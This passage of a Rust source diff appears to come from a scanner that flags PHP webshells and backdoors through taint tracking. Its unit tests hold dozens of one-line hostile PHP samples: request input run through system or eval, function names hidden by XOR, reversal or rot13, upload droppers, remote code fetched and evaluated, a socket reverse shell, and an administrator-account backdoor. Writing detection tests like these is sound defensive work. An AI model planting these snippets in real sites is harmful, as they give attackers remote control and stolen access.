+                        let e = if self.op(e, b"}") { e + 1 } else { e.max(i + 2) };
+                        return self.named_var(&inner, e, i);
+                    }
+                    if let Some(Tok::Var(n)) = self.tok(i + 1) {
+                        // `$$a(…)`, `$$a[…]`: the variable named by `$a`, then the call or index.
+                        let n = *n;
+                        let v = self.lookup(n);
+                        return self.named_var(&v, i + 2, i);
+                    }
+                    (Val::default(), i + 1, None)
+                }
+                _ => (Val::default(), i, None),
+            },
+            Tok::Var(name) => {
+                let name = *name;
+                let v = self.lookup(name);
+                self.postfix(v, i + 1, Some(Target::Var(name)), i, Some(name))
+            }
+            Tok::Num(n) => (Val::lit(n.to_vec()), i + 1, None),
+            Tok::Str { value, vars, escapes } => {
+                let mut v = Val::lit_of(value);
+                for name in vars {
+                    let x = self.lookup(name);
+                    v.labels |= x.labels;
+                    v.lit = None;
+                }
+                if blob_like(value) || *escapes >= 100 {
+                    v.labels |= BLOB;
+                }
+                if php_name(value) {
+                    v.labels |= PHP_NAME;
+                }
+                if vars.is_empty() {
+                    v.tok = Some(i);
+                }
+                self.postfix(v, i + 1, None, i, None)
+            }
+            Tok::Backtick { vars, .. } => {
+                let mut v = Val::default();
+                for name in vars {
+                    v.join(&self.lookup(name));
+                }
+                self.shell(&v, i, true);
+                (Val::unknown(), i + 1, None)
+            }
+            Tok::Ident(w) => self.ident(w, i),
+            Tok::Close => (Val::default(), i, None),
+        }
+    }
+
+    /// Values of a bracketed list opened at `open` up to `close` (`[a, b => c]`, `array(...)`).
+    /// Also the known elements, by key (`['a' => 'x', 'y']`).
+    fn list(&mut self, open: usize, close: &[u8]) -> (Vec<Val>, usize, Option<Table>) {
+        let mut out = Vec::new();
+        let mut table = Vec::new();
+        let mut next = 0i64;
+        let mut key: Option<Option<Vec<u8>>> = None;
+        let mut j = open + 1;
+        let end = loop {
+            if self.op(j, close) {
+                break j + 1;
+            }
+            if self.tok(j).is_none() || self.budget == 0 {
+                break j;
+            }
+            let (v, end, _) = self.expr(j);
+            if self.op(end, b"=>") {
+                key = Some(v.lit.clone());
+            } else {
+                let k = match key.take() {
+                    None => Some(next),
+                    Some(Some(k)) => parse_num(&k).or(Some(-1)).filter(|n| *n >= 0).or_else(|| {
+                        table_put(&mut table, k, &v);
+                        None
+                    }),
+                    Some(None) => None,
+                };
+                if let Some(n) = k {
+                    next = n + 1;
+                    table_put(&mut table, n.to_string().into_bytes(), &v);
+                }
+            }
+            out.push(v);
+            if self.op(end, b",") || self.op(end, b"=>") {
+                j = end + 1;
+            } else if self.op(end, close) {
+                break end + 1;
+            } else if self.op(end, b";") || self.op(end, b"{") || self.op(end, b"}") {
+                break end;
+            } else {
+                j = end.max(j + 1);
+            }
+        };
+        (out, end, Some(std::rc::Rc::new(table)))
+    }
+
+    fn postfix(
+        &mut self,
+        mut v: Val,
+        mut j: usize,
+        mut target: Option<Target<'a>>,
+        start: usize,
+        base_name: Option<&'a [u8]>,
+    ) -> (Val, usize, Option<Target<'a>>) {
+        let mut indexed = false;
+        loop {
+            // A property: `$this->data`, `$o->data` (not a method call).
+            let prop = match (self.tok(j), self.tok(j + 1)) {
+                (Some(Tok::Op(o)), Some(Tok::Ident(p))) if (*o == b"->" || *o == b"?->") && !self.op(j + 2, b"(") => {
+                    Some(*p)
+                }
+                _ => None,
+            };
+            if let Some(p) = prop {
+                v = self.lookup_prop(p);
+                target = Some(Target::Prop(p));
+                j += 2;
+                continue;
+            }
+            match self.tok(j) {
+                Some(Tok::Op(o)) if *o == b"[" || (*o == b"{" && target.is_some()) => {
+                    let curly = self.op(j, b"{");
+                    let close: &[u8] = if curly { b"}" } else { b"]" };
+                    let (idx, e, _) =
+                        if self.op(j + 1, close) { (Val::default(), j + 1, None) } else { self.expr(j + 1) };
+                    let e = if self.op(e, close) { e + 1 } else { e.max(j + 1) };
+                    let key = idx.lit.clone();
+                    let indexed_before = indexed;
+                    // Special arrays by key.
+                    let mut global = None;
+                    if !indexed {
+                        match (base_name, &key) {
+                            (Some(b"_SERVER"), Some(k)) => {
+                                let input = server_key_is_input(k) && !(self.command_line && k == b"argv");
+                                v = Val { labels: if input { INPUT } else { 0 }, ..Val::default() };
+                            }
+                            (Some(b"GLOBALS"), Some(k)) => {
+                                v = match is_superglobal_input(k) {
+                                    Some(l) => Val { labels: l, ..Val::default() },
+                                    None => match self.var_named(k) {
+                                        Some(n) => {
+                                            global = Some(n);
+                                            self.lookup_at(0, n)
+                                        }
+                                        // A name only ever used through `$GLOBALS[…]`: its
+                                        // value as the file last set it there.
+                                        None => {
+                                            let t = self
+                                                .env
+                                                .get(&(0, b"GLOBALS".as_slice()))
+                                                .and_then(|s| s.cur_arr.clone());
+                                            match t.as_deref().and_then(|t| table_get(t, k)) {
+                                                Some(x) => Val::lit(x.to_vec()),
+                                                None => Val::unknown(),
+                                            }
+                                        }
+                                    },
+                                };
+                            }
+                            _ => v = element(&v, key.as_deref(), curly),
+                        }
+                    } else {
+                        v = element(&v, key.as_deref(), curly);
+                    }
+                    indexed = true;
+                    // The key an assignment to this element would use (`$a['k'] = …`, `$a[] = …`).
+                    self.elem_key = match (&target, indexed_before) {
+                        (Some(Target::Var(_)), false) if self.op(j + 1, close) => ElemKey::Append,
+                        (Some(Target::Var(_)), false) => key.clone().map_or(ElemKey::Unknown, ElemKey::Known),
+                        _ => ElemKey::Unknown,
+                    };
+                    target = match global {
+                        Some(n) => Some(Target::Global(n)),
+                        None => target.and_then(|t| match t {
+                            Target::Var(n) | Target::Elem(n) => Some(Target::Elem(n)),
+                            Target::Prop(_) | Target::Global(_) => None,
+                        }),
+                    };
+                    j = e;
+                }
+                Some(Tok::Op(b"->")) | Some(Tok::Op(b"?->")) | Some(Tok::Op(b"::")) => {
+                    target = None;
+                    j += 1;
+                    let method = match self.tok(j) {
+                        Some(Tok::Ident(m)) => Some(lower(m)),
+                        _ => None,
+                    };
+                    match self.tok(j) {
+                        Some(Tok::Ident(_)) | Some(Tok::Var(_)) => j += 1,
+                        Some(Tok::Op(b"{")) => {
+                            let c = self.close_of(j);
+                            j = c + 1;
+                        }
+                        _ => {}
+                    }
+                    v = Val::unknown();
+                    if self.op(j, b"(") {
+                        let open = j;
+                        let (args, e) = self.args(j);
+                        if let Some(m) = &method {
+                            v = self.method_call(m, &args, open);
+                        }
+                        j = e;
+                    }
+                }
+                Some(Tok::Op(b"(")) => {
+                    target = None;
+                    let open = j;
+                    let (args, e) = self.args(j);
+                    v = self.var_call(&v, &args, open.max(start));
+                    j = e;
+                }
+                Some(Tok::Op(o @ (b"++" | b"--"))) => {
+                    if let Some(t) = target {
+                        self.step(t, *o == b"++");
+                    }
+                    j += 1;
+                }
+                _ => return (v, j, target),
+            }
+        }
+    }
+
+    /// A variable named by a computed value (`${'_PO'.'ST'}`, `${'GLOBALS'}[…]`, `$$name`) from
+    /// where that value ends (`e`).
+    fn named_var(&mut self, name: &Val, e: usize, i: usize) -> (Val, usize, Option<Target<'a>>) {
+        match name.lit.as_deref() {
+            Some(b"GLOBALS") => {
+                return self.postfix(Val::unknown(), e, Some(Target::Var(b"GLOBALS")), i, Some(b"GLOBALS"));
+            }
+            Some(b"_SERVER") => return self.postfix(Val::unknown(), e, None, i, Some(b"_SERVER")),
+            Some(n) => {
+                if let Some(l) = is_superglobal_input(n) {
+                    return self.postfix(Val { labels: l, ..Val::default() }, e, None, i, None);
+                }
+                if let Some(n) = self.var_named(n) {
+                    let x = self.lookup(n);
+                    return self.postfix(x, e, Some(Target::Var(n)), i, Some(n));
+                }
+            }
+            None => {}
+        }
+        let v = Val { labels: UNKNOWN | (name.labels & TAINT), ..Val::default() };
+        self.postfix(v, e, None, i, None)
+    }
+
+    /// `$x++` / `--$x`: the variable's known value stepped the way PHP does (`'a'++` is `'b'`).
+    fn step(&mut self, t: Target<'a>, up: bool) -> Option<Vec<u8>> {
+        let key = match t {
+            Target::Var(n) => (self.scope_of(n), n),
+            Target::Global(n) => (0, n),
+            Target::Elem(_) | Target::Prop(_) => return None,
+        };
+        let first = self.first;
+        let slot = self.env.entry(key).or_default();
+        if first {
+            slot.lit = LitState::Conflict;
+        }
+        slot.cur = slot.cur.as_deref().and_then(|c| if up { str_inc(c) } else { num_dec(c) });
+        slot.cur.clone()
+    }
+
+    fn ident(&mut self, w: &'a [u8], i: usize) -> (Val, usize, Option<Target<'a>>) {
+        let mut buf = [0u8; 48];
+        let name: &[u8] = if w.len() <= buf.len() {
+            buf[..w.len()].copy_from_slice(w);
+            buf[..w.len()].make_ascii_lowercase();
+            &buf[..w.len()]
+        } else {
+            w
+        };
+        let call = self.op(i + 1, b"(");
+        if is(name, INCLUDES) {
+            let (v, e, _) = self.expr(i + 1);
+            self.include(&v, i);
+            return (Val::unknown(), e, None);
+        }
+        match name {
+            b"function" | b"fn" => return self.function(i),
+            b"global" if !call => {
+                // `global $a, $b;`: the function's `$a` is the file's.
+                let mut e = i + 1;
+                while let Some(Tok::Var(_) | Tok::Op(b",")) = self.tok(e) {
+                    if let Some(Tok::Var(n)) = self.tok(e) {
+                        self.globals.insert((self.scope, n));
+                    }
+                    e += 1;
+                }
+                return (Val::default(), e, None);
+            }
+            b"return" => {
+                let (v, e, _) = self.expr(i + 1);
+                self.fn_returns |= v.labels & (ANY_INPUT | DECODED | REMOTE | BLOB);
+                return (v, e, None);
+            }
+            b"foreach" if call => {
+                let (v, mut e, _) = self.expr(i + 2);
+                if matches!(self.tok(e), Some(Tok::Ident(a)) if a.eq_ignore_ascii_case(b"as")) {
+                    e += 1;
+                    while !self.op(e, b")") && self.tok(e).is_some() && !self.op(e, b"{") && !self.op(e, b";") {
+                        let name = match self.tok(e) {
+                            Some(Tok::Var(n)) => {
+                                e += 1;
+                                Some(*n)
+                            }
+                            // `as ${$name} => …`: a variable named by a value.
+                            Some(Tok::Op(b"$")) => {
+                                let (_, end, t) = self.atom(e);
+                                e = end.max(e + 1);
+                                match t {
+                                    Some(Target::Var(n)) => Some(n),
+                                    _ => None,
+                                }
+                            }
+                            _ => {
+                                e += 1;
+                                None
+                            }
+                        };
+                        if let Some(n) = name {
+                            let scope = self.scope_of(n);
+                            let s = self.env.entry((scope, n)).or_default();
+                            if s.read && (v.labels & !s.labels & (TAINT | UPLOAD | ELEM_INPUT)) != 0 {
+                                self.stale = true;
+                            }
+                            s.labels |= v.labels | UNKNOWN;
+                            s.lit = LitState::Conflict;
+                            s.cur = None;
+                        }
+                    }
+                }
+                return (Val::default(), if self.op(e, b")") { e + 1 } else { e }, None);
+            }
+            b"new" => {
+                let mut e = i + 1;
+                let reflect =
+                    matches!(self.tok(e), Some(Tok::Ident(c)) if c.eq_ignore_ascii_case(b"ReflectionFunction"));
+                let spl_file = matches!(self.tok(e), Some(Tok::Ident(c)) if c.eq_ignore_ascii_case(b"SplFileObject"));
+                if matches!(self.tok(e), Some(Tok::Ident(_)) | Some(Tok::Var(_))) {
+                    e += 1;
+                }
+                if self.op(e, b"(") {
+                    let (args, end) = self.args(e);
+                    if reflect && args.first().is_some_and(|a| a.labels & INPUT != 0) {
+                        self.hit(Why::DynamicCallFromInput, Danger::Critical, i);
+                    }
+                    // `new ReflectionFunction('assert')`: a code or shell function kept to call later.
+                    let named = args.first().and_then(|a| a.lit.as_deref()).map(lower);
+                    if reflect && named.is_some_and(|n| is(&n, CODE) || is(&n, SHELL)) {
+                        self.hit(Why::HiddenFunctionName, Danger::High, i);
+                    }
+                    // A file the visitor names, opened for writing.
+                    let writes = args
+                        .get(1)
+                        .and_then(|a| a.lit.as_deref())
+                        .is_some_and(|m| m.iter().any(|c| matches!(c, b'w' | b'a' | b'x' | b'c' | b'+')));
+                    if spl_file && writes && args.first().is_some_and(|a| a.labels & ANY_INPUT != 0) {
+                        self.hit(Why::UploadDropper, Danger::High, i);
+                    }
+                    e = end;
+                }
+                return (Val::unknown(), e, None);
+            }
+            b"array" | b"list" if call => {
+                let (vals, e, table) = self.list(i + 1, b")");
+                if name == b"list" && self.op(e, b"=") && self.op(e.wrapping_sub(1), b")") {
+                    return self.destructure(i + 1, e);
+                }
+                let mut v = array_val(&vals);
+                v.arr = table;
+                return self.postfix(v, e, None, i, None);
+            }
+            b"eval" if call => {
+                let (args, e) = self.args(i + 1);
+                let v = args.into_iter().next().unwrap_or_default();
+                self.code(&v, i, true);
+                self.literal_code(&v, i, &[]);
+                return (Val::unknown(), e, None);
+            }
+            b"extract" | b"parse_str" | b"import_request_variables" if call => {
+                let (args, e) = self.args(i + 1);
+                if args.first().is_some_and(|a| a.labels & INPUT != 0) {
+                    // Every variable may now come from the request.
+                    if let (b"parse_str", Some(Tok::Var(n))) = (name, self.tok(e.saturating_sub(2))) {
+                        let n = *n;
+                        self.env.entry((self.scope, n)).or_default().labels |= INPUT;
+                    } else if !self.extracted.contains(&self.scope) {
+                        self.extracted.push(self.scope);
+                    }
+                    self.stale = true;
+                }
+                return (Val::default(), e, None);
+            }
+            _ => {}
+        }
+        if call && self.op(i + 2, b"...") && self.op(i + 3, b")") {
+            // `strlen(...)`: the function itself as a value (PHP 8.1), not a call.
+            return self.postfix(Val::lit(name.to_vec()), i + 4, None, i, None);
+        }
+        if call {
+            let (args, e) = self.args(i + 1);
+            let v = self.call(name, &args, i, false);
+            return self.postfix(v, e, None, i, None);
+        }
+        if self.op(i + 1, b"::") {
+            return self.postfix(Val::unknown(), i + 1, None, i, None);
+        }
+        // A bare word is a constant, or (undefined, in old PHP) its own name as text: `$f =
+        // passthru;` names the function without quotes.
+        if is(name, SHELL) || is(name, CODE) {
+            return (Val::lit(name.to_vec()), i + 1, None);
+        }
+        (Val::default(), i + 1, None)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::php::tokenize;
+    use super::*;
+
+    fn sinks(src: &str) -> Vec<(Why, Danger)> {
+        let t = tokenize(src.as_bytes(), usize::MAX);
+        let mut v: Vec<(Why, Danger)> = analyze(&t, Script::default()).into_iter().map(|s| (s.why, s.danger)).collect();
+        v.sort();
+        v.dedup();
+        v
+    }
+
+    #[test]
+    fn request_data_into_code_and_shell() {
+        assert_eq!(sinks("<?php $c = $_POST['c']; system($c);"), [(Why::ShellFromInput, Danger::Critical)]);
+        assert_eq!(sinks("<?php $x = $_REQUEST; eval($x['a']);"), [(Why::CodeFromInput, Danger::Critical)]);
+        assert_eq!(sinks("<?php eval('?>'.$_COOKIE['p']);"), [(Why::CodeFromInput, Danger::Critical)]);
+        assert_eq!(sinks("<?php $h = getallheaders(); assert($h['X-Run']);"), [(Why::CodeFromInput, Danger::Critical)]);
+        assert_eq!(sinks("<?php echo `{$_GET['c']}`;"), [(Why::ShellFromInput, Danger::Critical)]);
+        assert_eq!(sinks("<?php $_GET['f']($_GET['a']);"), [(Why::DynamicCallFromInput, Danger::Critical)]);
+    }
+
+    #[test]
+    fn hidden_names_are_resolved() {
+        let s = "<?php $s = 'abcdefghijklmnopqrstuvwxyz_0123456789'; $f = $s{0}.$s{18}.$s{18}.$s{4}.$s{17}.$s{19}; $f($_POST['z']);";
+        assert_eq!(
+            sinks(s),
+            [
+                (Why::CodeFromInput, Danger::Critical),
+                (Why::HiddenFunctionName, Danger::High),
+                (Why::HiddenFunctionName, Danger::Critical)
+            ]
+        );
+        let s = "<?php $k = strrev('metsys'); $k($_GET['c']);";
+        assert!(sinks(s).contains(&(Why::ShellFromInput, Danger::Critical)), "{:?}", sinks(s));
+        let s = "<?php $f = \"\\x61\\x73\\x73\\x65\\x72\\x74\"; @$f(base64_decode($_REQUEST['x']));";
+        assert!(sinks(s).contains(&(Why::CodeFromInput, Danger::Critical)), "{:?}", sinks(s));
+    }
+
+    #[test]
+    fn a_later_assignment_reaches_an_earlier_use() {
+        // In a loop, the name is set after the call that uses it: the second pass sees it.
+        let s = "<?php while (true) { if ($n) { $f($_POST['x']); } $f = 'sys' . 'tem'; $n = 1; }";
+        assert!(sinks(s).contains(&(Why::ShellFromInput, Danger::Critical)), "{:?}", sinks(s));
+        let s = "<?php function run() { eval($c); } $c = $_COOKIE['c']; run();";
+        assert_eq!(sinks(s), [(Why::EvalOfVariable, Danger::Low)], "functions have their own variables");
+        let s = "<?php function run() { global $c; eval($c); } $c = $_COOKIE['c']; run();";
+        assert_eq!(sinks(s), [(Why::CodeFromInput, Danger::Critical)], "unless they are declared global");
+        let s = "<?php $x = 'echo 1;'; eval($x); $x = $_POST['x'];";
+        assert_eq!(sinks(s), [(Why::CodeFromInput, Danger::Critical)]);
+    }
+
+    #[test]
+    fn droppers_and_fetchers() {
+        let s = "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);";
+        assert_eq!(sinks(s), [(Why::UploadDropper, Danger::High)]);
+        let s = "<?php $ch = curl_init('http://x.example/p.txt'); $code = curl_exec($ch); eval('?>'.$code);";
+        assert_eq!(sinks(s), [(Why::CodeFromInternet, Danger::Critical)]);
+        assert_eq!(sinks("<?php include '/tmp/.x/favicon_3a1.ico';"), [(Why::IncludeOfData, Danger::High)]);
+    }
+
+    #[test]
+    fn data_is_followed_through_functions_closures_properties_and_lists() {
+        let crit =
+            |src: &str, why: Why| assert!(sinks(src).contains(&(why, Danger::Critical)), "{src}: {:?}", sinks(src));
+        crit("<?php run($_POST['t']); function run($c) { return system($c); }", Why::ShellFromInput);
+        crit("<?php function a($x) { b($x); } function b($y) { eval($y); } a($_GET['x']);", Why::CodeFromInput);
+        crit("<?php $r = function ($x) { eval($x); }; $r($_REQUEST['c']);", Why::CodeFromInput);
+        crit("<?php array_map(function ($x) { assert($x); }, $_POST);", Why::CodeFromInput);
+        crit(
+            "<?php class A { function __destruct() { eval($this->d); } } $o = new A; $o->d = $_POST['d'];",
+            Why::CodeFromInput,
+        );
+        crit("<?php list($f, $a) = explode('|', $_COOKIE['z']); $f($a);", Why::DynamicCallFromInput);
+        crit("<?php [$f, $a] = explode('|', $_COOKIE['z']); $f($a);", Why::DynamicCallFromInput);
+        crit("<?php $a = 'b'; $$a = 'system'; $b($_GET['c']);", Why::ShellFromInput);
+        crit(
+            "<?php $k = \"\\x13\\x19\\x13\\x14\\x06\\x0c\" ^ \"\\x60\\x60\\x60\\x60\\x63\\x61\"; $k($_GET['c']);",
+            Why::ShellFromInput,
+        );
+        crit("<?php $f = sprintf('%s%s', 'sys', 'tem'); $f($_GET['c']);", Why::ShellFromInput);
+        crit("<?php $f = strtr('qjqlzk', 'qjlzk', 'sytem'); $f($_GET['c']);", Why::ShellFromInput);
+        crit("<?php include 'data://text/plain;base64,' . $_POST['p'];", Why::CodeFromInput);
+        crit("<?php include 'php://input';", Why::CodeFromInput);
+        crit("<?php $e = exif_read_data('a.jpg'); preg_replace($e['Make'], $e['Model'], '');", Why::EvalOfDecoded);
+        crit(
+            "<?php $s = fsockopen($_GET['h'], 80); proc_open('/bin/sh', [0 => $s, 1 => $s], $p);",
+            Why::ShellFromInput,
+        );
+        crit(
+            "<?php wp_insert_user(['user_login' => 'x', 'user_pass' => $_GET['p'], 'role' => 'administrator']);",
+            Why::AdminBackdoor,
+        );
+        assert_eq!(
+            sinks("<?php include 'zip://' . __DIR__ . '/logo.jpg#x.php';"),
+            [(Why::IncludeOfData, Danger::High)]
+        );
+        assert_eq!(sinks("<?php $o = new SplFileObject($_POST['f'], 'w');"), [(Why::UploadDropper, Danger::High)]);
+        assert_eq!(sinks("<?php mail($_POST['to'], 's', 'b', $_POST['h']);"), [(Why::MailFromInput, Danger::High)]);
+    }
+
+    #[test]
+    fn ordinary_functions_templates_and_mail_are_quiet() {
+        assert!(sinks("<?php function run($c) { return esc_html($c); } run($_POST['t']);").is_empty());
+        assert!(sinks("<?php function t($f) { include $f; } t(__DIR__ . '/tpl.php');").is_empty());
+        assert!(sinks("<?php $this->name = $_POST['n']; echo $this->name;").is_empty());
+        assert!(sinks("<?php mail(get_option('admin_email'), $_POST['subject'], $_POST['message']);").is_empty());
+        assert!(sinks("<?php wp_insert_user(['user_login' => $_POST['u'], 'role' => 'subscriber']);").is_empty());
+        // A template engine compiling to PHP through data: is like eval of a variable (weak).
+        assert_eq!(
+            sinks("<?php return include('data://text/plain,' . urlencode($php));"),
+            [(Why::EvalOfVariable, Danger::Low)]
+        );
+    }
+
+    #[test]
+    fn names_rebuilt_step_by_step_are_followed() {
+        let crit =
+            |src: &str, why: Why| assert!(sinks(src).contains(&(why, Danger::Critical)), "{src}: {:?}", sinks(src));
+        // One variable reused: the value in the order of the text.
+        crit("<?php $_ = 's'.'s'.'e'.'r'; $_ = 'a'.$_.'t'; $_(${'_PO'.'ST'}['x']);", Why::CodeFromInput);
+        // Inverted bytes, letters counted up, and an index computed from comparisons.
+        crit("<?php $k = ~\"\\x8c\\x86\\x8c\\x8b\\x9a\\x92\"; $k($_GET['c']);", Why::ShellFromInput);
+        crit("<?php $a = 'r'; $a++; $f = $a . 'y' . $a . 'tem'; $f($_GET['c']);", Why::ShellFromInput);
+        crit(
+            "<?php $i = (2 > 1) + (2 > 1); $t = 'xxs'; $u = 'ystem'; $f = $t[$i] . $u; $f($_GET['c']);",
+            Why::ShellFromInput,
+        );
+        // Pieces appended one at a time.
+        crit(
+            "<?php $t = table(); $n = ''; $n .= $t{0}; $n .= $t{1}; $n .= $t{2}; $n($_GET['c']);",
+            Why::HiddenFunctionName,
+        );
+        // The file's variables reached from a function, by `global` and by `${'GLOBALS'}`.
+        crit(
+            "<?php $a = 'base64_decode'; function dec($s) { global $a; return gzinflate($a($s)); } eval(dec('eJwrAQA='));",
+            Why::EvalOfDecoded,
+        );
+        crit(
+            "<?php $n = 'base64_'.'decode'; function d($s) { return ${'GLOBALS'}['n']($s); } eval(d('ZWNobyAxOw=='));",
+            Why::EvalOfDecoded,
+        );
+    }
+
+    #[test]
+    fn code_in_strings_objects_and_callbacks_is_read() {
+        let crit =
+            |src: &str, why: Why| assert!(sinks(src).contains(&(why, Danger::Critical)), "{src}: {:?}", sinks(src));
+        assert_eq!(
+            sinks("<?php eval(\"move_uploaded_file(\\$_FILES['f']['tmp_name'], \\$_FILES['f']['name']);\");"),
+            [(Why::UploadDropper, Danger::High)]
+        );
+        crit("<?php $f = create_function('$x', 'system($x);'); $f($_GET['c']);", Why::ShellFromInput);
+        crit("<?php assert('eval($_POST[1]);');", Why::CodeFromInput);
+        crit("<?php array_intersect_uassoc([$_REQUEST['c'] => 1], [1], 'assert');", Why::CodeFromInput);
+        crit(
+            "<?php mb_ereg_replace_callback('.+', function ($m) { return eval($m[0]); }, $_POST['c']);",
+            Why::CodeFromInput,
+        );
+        crit("<?php filter_var($_POST['c'], FILTER_CALLBACK, ['options' => 'assert']);", Why::CodeFromInput);
+        crit(
+            "<?php class K { public $d; function __destruct() { eval($this->d); } } unserialize($_GET['o']);",
+            Why::CodeFromInput,
+        );
+        crit(
+            "<?php function unpack_it($s, $k) { return $s ^ $k; } eval(unpack_it($blob, $_GET['k']));",
+            Why::CodeFromInput,
+        );
+    }
+
+    #[test]
+    fn glue_functions_fetched_matches_and_hidden_names_as_values() {
+        let crit =
+            |src: &str, why: Why| assert!(sinks(src).contains(&(why, Danger::Critical)), "{src}: {:?}", sinks(src));
+        // A helper that only glues its parameters, fed table lookups.
+        crit(
+            "<?php $t = 'tesyxm'; function g($a, $b, $c) { return $a . '' . $b . $c; } $f = g($t[2], $t[3], $t[2]) . g($t[0], $t[1], $t[5]); $f($_GET['c']);",
+            Why::ShellFromInput,
+        );
+        // Code fetched, cut out by a pattern, and written after a PHP open tag.
+        assert!(sinks(
+            "<?php $r = curl_exec($ch); preg_match('#<c>(.*)</c>#s', $r, $m); $h = fopen($n, 'w'); fwrite($h, \"<?php\\n$m[1]\");"
+        )
+        .contains(&(Why::UploadDropper, Danger::High)));
+        // A decoded dangerous name is a finding wherever it goes (here, a method's callback).
+        assert!(
+            sinks("<?php $rows = $q->fetchAll(PDO::FETCH_FUNC, str_rot13('nffreg'));")
+                .contains(&(Why::HiddenFunctionName, Danger::High))
+        );
+    }
+
+    #[test]
+    fn arrays_of_pieces_and_scripts_written_from_text() {
+        let crit =
+            |src: &str, why: Why| assert!(sinks(src).contains(&(why, Danger::Critical)), "{src}: {:?}", sinks(src));
+        crit(
+            "<?php $p = explode('.', 'x.ass.y.er.t'); $f = $p[1] . $p[3] . $p[4]; $f($_POST['c']);",
+            Why::CodeFromInput,
+        );
+        crit(
+            "<?php $m = array('k' => 'sys', 'j' => 'tem'); $f = $m['k'] . $m['j']; $f($_POST['c']);",
+            Why::ShellFromInput,
+        );
+        crit("<?php $f = implode('', array_reverse(str_split('metsys'))); $f($_GET['c']);", Why::ShellFromInput);
+        crit("<?php $i['j'] = 'assert'; $i['j']($_POST['x']);", Why::CodeFromInput);
+        crit("<?php $it['w'] = 'assert'; $all[] = $it; $all[0]['w']($_POST['x']);", Why::CodeFromInput);
+        crit("<?php $o = '_POST'; $v = 'x'; $f = 'assert'; $f($$o[$v]);", Why::CodeFromInput);
+        assert!(
+            sinks("<?php $r = new ReflectionFunction('assert'); $r->invoke($x);")
+                .contains(&(Why::HiddenFunctionName, Danger::High))
+        );
+        assert!(
+            sinks("<?php $m = []; $m['f'] = 'strtoupper'; $m['g'] = 'system'; echo $m['f']($_GET['x']);").is_empty()
+        );
+        // `Array` joined to text gives letters.
+        crit("<?php $a = []; $a = $a . ''; $f = $a[3] . 'sser' . 't'; $f($_GET['c']);", Why::CodeFromInput);
+        assert!(
+            sinks("<?php fputs(fopen('x.php', 'w'), '<?php eval($_POST[1]); ?>');")
+                .contains(&(Why::UploadDropper, Danger::High))
+        );
+        assert!(
+            sinks("<?php $f = create_function('$a', 'return assert($a);'); $m->addServer('h', 1, $f);")
+                .contains(&(Why::HiddenFunctionName, Danger::High))
+        );
+        // Near misses: a settings file written from text, a list joined for display.
+        assert!(sinks("<?php file_put_contents('cfg.php', '<?php return array(\\'debug\\' => false);');").is_empty());
+        assert!(
+            sinks("<?php $l = explode(',', 'a,b,c'); echo implode(' | ', $l); echo $l[0] . $l[1] . $l[2];").is_empty()
+        );
+    }
+
+    #[test]
+    fn method_callbacks_bare_names_pieces_and_comments() {
+        let crit =
+            |src: &str, why: Why| assert!(sinks(src).contains(&(why, Danger::Critical)), "{src}: {:?}", sinks(src));
+        let xsl = "<?php $x = '<xsl:value-of select=\"php:function(\\'assert\\', string(.))\"/>'; $p = new XSLTProcessor(); $p->registerPHPFunctions();";
+        assert!(sinks(xsl).contains(&(Why::HiddenFunctionName, Danger::High)), "{:?}", sinks(xsl));
+        crit("<?php $db = new SQLite3('x'); $db->createFunction('f', $_REQUEST['e']);", Why::DynamicCallFromInput);
+        assert!(
+            sinks("<?php $a = new ArrayObject([$_POST['p']]); $a->uasort('assert');")
+                .contains(&(Why::HiddenFunctionName, Danger::Medium))
+        );
+        crit("<?php $f = passthru; $f($_POST['c']);", Why::ShellFromInput);
+        crit("<?php $m = 'sysatem'; $f = substr($m, 0, 3) . substr($m, 4); $f($_GET['c']);", Why::ShellFromInput);
+        crit(
+            "<?php function ff($s) { return eval($s); } filter_var($_POST['a'], FILTER_CALLBACK, ['options' => 'ff']);",
+            Why::CodeFromInput,
+        );
+        crit("<?php $c = (new ReflectionClass('T'))->getDocComment(); eval(substr($c, 7, 20));", Why::EvalOfDecoded);
+        crit("<?php $k = 'cmd'; foreach ($_POST as ${$k}) {} system($cmd);", Why::ShellFromInput);
+        crit(
+            "<?php ${'GLOBALS'}['k'] = 'sys' . 'tem'; function r() { ${'GLOBALS'}['k']($_GET['c']); }",
+            Why::ShellFromInput,
+        );
+        // A decoder of the file's own that shifts characters.
+        crit(
+            "<?php function un($s) { $r = ''; for ($i = 0; $i < strlen($s); $i++) { $r .= chr(ord($s[$i]) - 1); } return $r; } eval(un('fdip!2<'));",
+            Why::EvalOfDecoded,
+        );
+        assert!(sinks("<?php $c = chr(65 + $i); file_put_contents($dir . '/x.php', '<?php return ' . var_export($c, true) . ';');").is_empty());
+        crit("<?php (@$_ = 'sys' . 'tem') . @$_($_GET['c']);", Why::ShellFromInput);
+        let mut bare = b"<?php $x = ~".to_vec();
+        bare.extend(b"system".iter().map(|c| !c));
+        bare.extend_from_slice(b"; $x($_POST['c']);");
+        let t = tokenize(&bare, usize::MAX);
+        assert!(
+            analyze(&t, Script::default()).iter().any(|s| s.why == Why::ShellFromInput && s.danger == Danger::Critical)
+        );
+        crit(
+            "<?php function go($f, $a) { call_user_func_array($f, $a); } go('assert', [$_POST['a']]);",
+            Why::CodeFromInput,
+        );
+        assert!(
+            sinks("<?php function go2($f) { $f($_POST['x']); } go2(assert);")
+                .contains(&(Why::HiddenFunctionName, Danger::High))
+        );
+        assert!(sinks("<?php function ap($f, $x) { return $f($x); } echo ap('strtoupper', $_GET['q']);").is_empty());
+        let runner = "<?php function run($c) { if (function_exists('exec')) { exec($c, $o); } elseif (function_exists('shell_exec')) { $o = shell_exec($c); } else { system($c); } return $o; }";
+        assert!(sinks(runner).contains(&(Why::ShellFromInput, Danger::High)));
+        assert!(sinks("<?php function v($bin) { exec($bin . ' --version', $o); return $o; }").is_empty());
+        // Near misses: a sort with a method, a word that is only a constant, a comment read.
+        assert!(
+            sinks("<?php $a->uasort([$this, 'cmp']); $s = SYSTEM_PATH; $d = $r->getDocComment(); echo $d;").is_empty()
+        );
+    }
+
+    #[test]
+    fn command_line_scripts_streams_and_callables_are_quiet() {
+        let t = tokenize(b"#!/usr/bin/env php\n<?php $c = $_SERVER['argv'][1]; exec($c);", usize::MAX);
+        assert!(analyze(&t, Script { command_line: true }).is_empty());
+        assert_eq!(sinks("<?php $c = $_SERVER['argv'][1]; exec($c);"), [(Why::ShellFromInput, Danger::Critical)]);
+        let checked = "<?php if (php_sapi_name() != 'cli') { exit; } $c = $_SERVER['argv'][1]; exec($c);";
+        assert!(sinks(checked).is_empty());
